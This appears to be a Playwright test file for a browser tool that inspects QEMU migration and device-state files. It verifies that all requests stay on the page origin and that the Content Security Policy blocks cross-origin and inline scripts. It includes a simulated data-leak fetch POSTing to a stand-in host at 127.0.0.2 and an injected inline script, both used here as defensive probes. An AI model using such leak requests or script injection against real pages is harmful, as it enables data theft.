import { expect, test } from '@playwright/test';
import { byteCell, col, expectOpened, fixturePath, openByInput, sectionsTable, tableRows } from './open-file.ts';

test('no request leaves the page origin, and the CSP blocks any that would', async ({ page, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto('/');

  // A full session: a sample, a picked file, selections, the hex view, a RAM picture.
  await page.getByRole('button', { name: 'Open sample' }).click();
  await page.getByRole('menuitem', { name: /q35 device state/ }).click();
  await expectOpened(page, 'q35-devstate.bin');
  await openByInput(page, fixturePath('pc-ram-migration.bin'));
  await expectOpened(page, 'pc-ram-migration.bin');
  await sectionsTable(page).getByRole('row').filter({ hasText: 'START' }).click();
  await expect(page.getByRole('img', { name: /^pc\.ram:/ })).toBeVisible();
  const cpu = (await tableRows(page)).find((r) => r[col('Device')] === 'cpu')!;
  await sectionsTable(page).getByRole('row').filter({ hasText: cpu[col('Offset')] }).click();
  await byteCell(page, parseInt(cpu[col('Offset')], 16) + 20).click();

  expect(requests.length).toBeGreaterThan(3);
  for (const url of requests) expect(new URL(url).origin).toBe(origin);
  const outside = requests.filter((u) => new URL(u).origin !== origin);
  expect(outside).toEqual([]);

  // The policy itself: a script in the page cannot reach another origin.
  const verdict = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true }),
    );
    const fetched = await fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'failed',
    );
    return { fetched, violation: await Promise.race([violation, new Promise((r) => setTimeout(() => r('none'), 2000))]) };
  });
  expect(verdict).toEqual({ fetched: 'failed', violation: 'connect-src http://127.0.0.2:9/leak' });
  expect(requests.some((u) => u.includes('127.0.0.2'))).toBe(false);
});

test('the policy forbids inline script', async ({ page }) => {
  await page.goto('/');
  const ran = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
    );
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.body.appendChild(s);
    return { ran: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, directive: await violation };
  });
  expect(ran).toEqual({ ran: false, directive: 'script-src-elem' });
});
